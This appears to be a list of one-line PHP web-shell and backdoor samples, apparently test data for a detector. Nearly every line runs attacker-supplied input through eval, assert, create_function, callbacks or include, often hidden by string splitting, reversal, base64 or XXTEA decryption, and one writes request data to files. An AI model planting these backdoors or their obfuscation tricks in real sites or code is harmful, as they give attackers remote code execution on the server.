<?php function run($code) { @Assert( $code ); } run($_REQUEST['q']); ?>
<?php function go($s) { @EVAL ($s); } go( $_REQUEST["s"] ); ?>
<?php function w() { return '/* a */' . $_POST['a']; } eval( x() ); function x() { return w(); } ?>
<?php $q = $_REQUEST; @File_Put_Contents( $q['n'], $q['b'] ); ?>
<?php $c = $_COOKIE; $f = $c['a']; $g = $f("", $c['b']); $g(); ?>
<?php ${"fn"} = SubStr(__FILE__, -10, -4); $fn($_POST['x']); ?>
<?php $l = array($_GET['x']); UaSort( $l, Base64_Decode( $_GET['f'] ) ); ?>
<?php echo Preg_Replace("/(.*)/ies", 'strtoupper("\\1")', $_POST['t']); ?>
<?php $d = new DOMXPath($doc); $d->registerPhpFunctions(); $d->query("//a[php:function('x', '" . $_GET['q'] . "')]"); ?>
<?php Include( $_REQUEST['page'] . '.php' ); ?>
<?php class K {} $r = new ReflectionClass('K'); $str = $r->GetDocComment(); $f = SubStr( $str , StrPos( $str, 'a' ), 6 ); ?>
<?php $t = base64_decode($x); $f = Create_Function( '' , $t ); $f(); ?>
<?php eval ("function w() { System('id'); }"); w(); ?>
<?php $a = "as" . "ser"; $b = $a . "t"; $b($_POST['p']); ?>
<?php $__P_P = "abcdefghijklmnopqrstuvwxyz"; $__H_H = $__P_P[1]; @$x($__H_H( $__H_H($y))); ?>
<?php $f = Str_Replace('zq', '', 'crzqeate_fzqunction'); $b = $f('', $p1 . $p2); $b(); ?>
<?php $x = base64_decode('aHR0cDovL2V4YW1wbGUuaW52YWxpZC8='); ?>
<?php eval( XXTEA_Decrypt( $p, $k ) ); ?>
<?php $x = strrev($k); $v = strrev(xxtea_decrypt($p, $x)); Eval ( xxtea_decrypt ( $v , $x ) ); ?>
<?php $k = "Create_" . "Function"; $g = $k('$a', $b); ?>
<?php $m = 'as' . 'sert'; $m(base64_decode($_POST['d'])); ?>
<?php $d = strrev( "edoced_46esab" ); eval($d($p)); ?>
<?php UKSort( ... $_POST ); ?>
<?php call_user_func( ...$_COOKIE ) ?>
